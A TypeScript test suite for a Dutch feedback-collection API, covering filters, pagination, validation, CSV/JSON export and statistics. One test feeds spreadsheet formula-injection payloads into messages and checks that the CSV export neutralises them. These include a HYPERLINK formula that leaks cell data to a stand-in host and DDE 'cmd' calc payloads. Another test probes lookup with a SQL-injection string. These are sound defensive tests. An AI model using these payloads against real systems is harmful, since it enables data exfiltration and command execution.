import assert from 'node:assert/strict';
import { test, type TestContext } from 'node:test';
import { fetchDescribed } from './openapi/described.ts';
import { fullMessage, smallMessage, startReceiver, TOKEN, type Problem } from './setup.ts';

interface Item extends Record<string, unknown> {
  id: string;
  reference: string;
  message: string;
}

const DAY = 24 * 60 * 60 * 1000;
const START = Date.parse('2026-11-01T12:00:00Z');

/** Four messages, a day apart, that differ in everything one can filter by. */
async function withFour(t: TestContext) {
  let time = START;
  const receiver = await startReceiver(t, { now: () => time });
  const { post, read, storage } = receiver;
  const page = (path: string) => ({ url: `https://voorbeeldstad.example${path}`, title: `Over ${path}` });
  const messages = [
    {
      message: 'Een',
      category: 'Klacht',
      page: page('/afval'),
      rating: { scale: 'faces', value: 1, max: 5 },
    },
    {
      message: 'Twee',
      category: 'Vraag',
      page: page('/afval/papier'),
      rating: { scale: 'thumbs', value: 2, max: 2 },
    },
    {
      message: 'Drie',
      category: 'Klacht',
      page: page('/wonen'),
      rating: { scale: 'stars', value: 3, max: 5 },
    },
    { message: 'Vier 100% Goed_', page: page('/wonen') },
  ].map((part) => ({ ...smallMessage(), ...part }));
  for (const message of messages) {
    assert.equal((await post(message)).status, 201);
    time += DAY;
  }
  await storage.change(
    messages[1]!.id,
    { status: 'done', note: 'Gebeld', assignee: 'Team Afval' },
    new Date(time),
  );
  const find = async (query: Record<string, string>, path = '/v1/feedback'): Promise<string[]> => {
    const response = await read(`${path}?${new URLSearchParams(query)}`);
    assert.equal(response.status, 200);
    return ((await response.json()) as { items: Item[] }).items.map(({ message }) => message);
  };
  return { ...receiver, messages, find };
}

test('messages can be chosen by period, page, rating, category, status and text, and by all together', async (t) => {
  const { find, read, messages } = await withFour(t);
  const site = 'https://voorbeeldstad.example';
  const reference = ((await (await read(`/v1/feedback/${messages[0]!.id}`)).json()) as Item).reference;
  const table: [query: Record<string, string>, expected: string[]][] = [
    [{}, ['Vier 100% Goed_', 'Drie', 'Twee', 'Een']],
    [{ from: '2026-11-02T12:00:00Z' }, ['Vier 100% Goed_', 'Drie', 'Twee']],
    [{ from: '2026-11-02T13:00:00+01:00' }, ['Vier 100% Goed_', 'Drie', 'Twee']],
    [{ until: '2026-11-02T12:00:00Z' }, ['Een']],
    [{ page: `${site}/afval` }, ['Een']],
    [{ page: `${site}/afval*` }, ['Twee', 'Een']],
    [{ rating: '1' }, ['Een']],
    [{ rating: '3' }, ['Drie']],
    [{ rating: '5' }, ['Twee']],
    [{ category: 'Klacht' }, ['Drie', 'Een']],
    [{ status: 'done' }, ['Twee']],
    [{ status: 'new' }, ['Vier 100% Goed_', 'Drie', 'Een']],
    [{ text: 'gebeld' }, ['Twee']],
    [{ text: '100%' }, ['Vier 100% Goed_']],
    [{ text: 'goed_' }, ['Vier 100% Goed_']],
    [{ text: 'V%r' }, []],
    [{ text: reference.toLowerCase() }, ['Een']],
    [{ category: 'Klacht', page: `${site}/*`, until: '2026-11-03T00:00:00Z', rating: '1' }, ['Een']],
    [{ category: 'Klacht', status: 'done' }, []],
  ];
  for (const [query, expected] of table) {
    assert.deepEqual(await find(query), expected, JSON.stringify(query));
    assert.deepEqual(await find(query, '/v1/feedback.json'), expected, `export of ${JSON.stringify(query)}`);
  }
});

test('a filter goes along from page to page', async (t) => {
  const { read } = await withFour(t);
  const first = (await (await read('/v1/feedback?category=Klacht&limit=1')).json()) as {
    items: Item[];
    next: string;
  };
  const query = `category=Klacht&limit=1&cursor=${first.next}`;
  const second = (await (await read(`/v1/feedback?${query}`)).json()) as { items: Item[]; next?: string };
  assert.deepEqual(
    [...first.items, ...second.items].map(({ message }) => message),
    ['Drie', 'Een'],
  );
  assert.equal(second.next, undefined);
});

test('everything that is wrong with an address is said together, in the language asked for', async (t) => {
  const { url } = await startReceiver(t);
  const wrong: [query: string, parameters: string[]][] = [
    ['categroy=Klacht', ['categroy']],
    ['rating=6', ['rating']],
    ['rating=1.5&status=weg', ['rating', 'status']],
    ['from=gisteren&until=2026-13-01T00:00:00Z', ['from', 'until']],
    ['from=2026-11-01', ['from']],
    ['text=', ['text']],
    ['text=%00', ['text']],
    [`text=${'a'.repeat(201)}`, ['text']],
    ['status=new&status=done', ['status']],
    ['__proto__=1', ['__proto__']],
    ['limit=0&rating=x&cursor=y', ['cursor', 'limit', 'rating']],
  ];
  for (const [query, parameters] of wrong) {
    for (const [language, words] of [
      ['nl', /^(?:Dit|In deze)/],
      ['en', /^(?:This|We do not)/],
    ] as const) {
      const response = await fetchDescribed(`${url}/v1/feedback?${query}`, {
        headers: { Authorization: `Bearer ${TOKEN}`, 'Accept-Language': language },
      });
      const { status, code, errors = [] } = (await response.json()) as Problem;
      assert.deepEqual([status, code], [400, 'invalid-query'], query);
      assert.deepEqual(errors.map(({ parameter }) => parameter).sort(), parameters, query);
      for (const { detail } of errors) assert.match(detail, words, query);
    }
  }
});

test('one message is found by its id, and by its reference as someone noted it down', async (t) => {
  const { post, read } = await startReceiver(t);
  const sent = fullMessage();
  const { reference } = (await (await post(sent)).json()) as Item;
  const asHeard = reference.toLowerCase().replaceAll('0', 'o').replaceAll('1', 'l');
  for (const name of [sent.id, sent.id.toUpperCase(), reference, reference.toLowerCase(), asHeard]) {
    const item = (await (await read(`/v1/feedback/${name}`)).json()) as Item;
    assert.deepEqual([item.id, item.reference, item.status], [sent.id, reference, 'new'], name);
  }
  for (const name of ['0', '%00', 'ABCDEU', `${reference}0`, '%F0%9F', "' OR 1=1 --", '__proto__']) {
    assert.equal((await read(`/v1/feedback/${encodeURI(name)}`)).status, 404, name);
  }
});

test('CSV keeps RFC 4180, and a spreadsheet reads it as UTF-8', async (t) => {
  const { post, read, url } = await startReceiver(t, { now: () => START });
  const sent = { ...fullMessage(), message: 'Regel 1\r\nRegel "2", é; 語', notBsn: undefined };
  await post(sent);
  await post({ ...smallMessage('a;b'), category: 'Klacht' });
  const response = await read('/v1/feedback.csv');
  assert.match(response.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
  assert.equal(response.headers.get('content-disposition'), 'attachment; filename="feedback-2026-11-01.csv"');
  const bytes = new Uint8Array(await response.arrayBuffer());
  assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
  const csv = new TextDecoder().decode(bytes);
  const [head = [], ...rows] = parseCsv(csv, ',');
  const [small, full] = rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index]])));
  assert.ok(rows.every(({ length }) => length === head.length));
  assert.equal(full?.message, sent.message);
  assert.deepEqual(
    [full?.ratingScale, full?.ratingValue, full?.ratingMax, full?.status],
    ['faces', '4', '5', 'new'],
  );
  assert.deepEqual([full?.contactEmail, full?.context], [sent.contact.email, JSON.stringify(sent.context)]);
  assert.deepEqual(
    [small?.message, small?.category, small?.contactName, small?.ratingValue],
    ['a;b', 'Klacht', '', ''],
  );
  assert.ok(csv.endsWith('\r\n'));

  // The same by content negotiation, and with what a Dutch spreadsheet takes for a separator.
  const negotiated = await fetchDescribed(`${url}/v1/feedback?separator=semicolon&category=Klacht`, {
    headers: { Authorization: `Bearer ${TOKEN}`, Accept: 'text/csv' },
  });
  assert.deepEqual(parseCsv(await negotiated.text(), ';')[1]?.[head.indexOf('message')], 'a;b');
  const json = await read('/v1/feedback');
  assert.match(json.headers.get('content-type') ?? '', /^application\/json/);
  assert.equal(json.headers.get('vary'), 'Accept');
});

test('a spreadsheet runs nothing of what a visitor wrote', async (t) => {
  const { post, read } = await startReceiver(t);
  const attacks = [
    `=HYPERLINK("https://elders.example?"&A1,"klik")`,
    '+31 6 12345678',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    '"\r\n=1+1,"',
    '","=1+1"',
  ];
  for (const attack of attacks) {
    await post({
      ...smallMessage(attack),
      category: attack,
      contact: { name: attack },
      page: { title: attack },
    });
  }
  for (const [separator, character] of [
    ['comma', ','],
    ['semicolon', ';'],
  ] as const) {
    const csv = await (await read(`/v1/feedback.csv?separator=${separator}`)).text();
    const rows = parseCsv(csv, character);
    assert.equal(rows.length, attacks.length + 1);
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^(?:[\t\r\n]|\s*[=+\-@＝])/, cell);
  }
});

test('an export holds every message, also when there are more than fit in memory at once', async (t) => {
  const { storage, read } = await startReceiver(t);
  const count = 401;
  for (let n = 0; n < count; n++) {
    const message = { ...smallMessage(`Bericht ${n}`), version: 1 as const };
    await storage.add({ message, key: message.id, bodyHash: 'x', receivedAt: new Date(START) });
  }
  const { items } = (await (await read('/v1/feedback.json')).json()) as { items: Item[] };
  assert.equal(new Set(items.map(({ id }) => id)).size, count);
  assert.deepEqual([items[0]?.message, items.at(-1)?.message], [`Bericht ${count - 1}`, 'Bericht 0']);
  assert.equal(parseCsv(await (await read('/v1/feedback.csv')).text(), ',').length, count + 1);
});

test('an export of nothing is whole too', async (t) => {
  const { read } = await startReceiver(t);
  assert.deepEqual(await (await read('/v1/feedback.json')).json(), { items: [] });
  assert.equal(parseCsv(await (await read('/v1/feedback.csv')).text(), ',').length, 1);
});

test('statistics are of what the filter chooses', async (t) => {
  const { read } = await withFour(t);
  const all = (await (await read('/v1/statistics?enough=1')).json()) as Record<string, object[]>;
  assert.deepEqual([all.count, all.rated, all.average], [4, 3, 3]);
  assert.deepEqual(
    all.days?.map((day) => (day as { day: string }).day),
    ['2026-11-01', '2026-11-02', '2026-11-03', '2026-11-04'],
  );
  assert.equal((all.pages?.[0] as { url: string }).url, 'https://voorbeeldstad.example/afval');
  assert.deepEqual(all.categories?.[0], { category: 'Klacht', count: 2, rated: 2, average: 2 });
  const few = (await (await read('/v1/statistics?category=Vraag&enough=1&most=1')).json()) as Record<
    string,
    unknown
  >;
  assert.deepEqual([few.count, few.average], [1, 5]);
  const none: unknown = await (await read('/v1/statistics?text=nergens')).json();
  assert.deepEqual(none, { count: 0, rated: 0, average: null, days: [], pages: [], categories: [] });
  assert.equal((await read('/v1/statistics?enough=0')).status, 400);
});

test('HEAD says what GET would, without a body', async (t) => {
  const { url, messages } = await withFour(t);
  const headers = { Authorization: `Bearer ${TOKEN}` };
  const paths = ['/v1/feedback', `/v1/feedback/${messages[0]!.id}`, '/v1/feedback.csv', '/v1/feedback.json'];
  for (const path of [...paths, '/v1/statistics', '/v1/openapi.json', '/healthz', '/metrics']) {
    const response = await fetchDescribed(url + path, { method: 'HEAD', headers });
    assert.deepEqual([response.status, await response.text()], [200, ''], path);
  }
  assert.equal((await fetchDescribed(`${url}/v1/feedback.csv`, { method: 'HEAD' })).status, 401);
});

/** A strict reader of RFC 4180. */
function parseCsv(csv: string, separator: string): string[][] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${separator}]*))(${separator}|\\r\\n)`, 'y');
  const rows: string[][] = [[]];
  const text = csv.replace(/^\uFEFF/, '');
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    assert.ok(match, `no cell at ${at}: ${JSON.stringify(text.slice(at, at + 60))}`);
    rows.at(-1)!.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
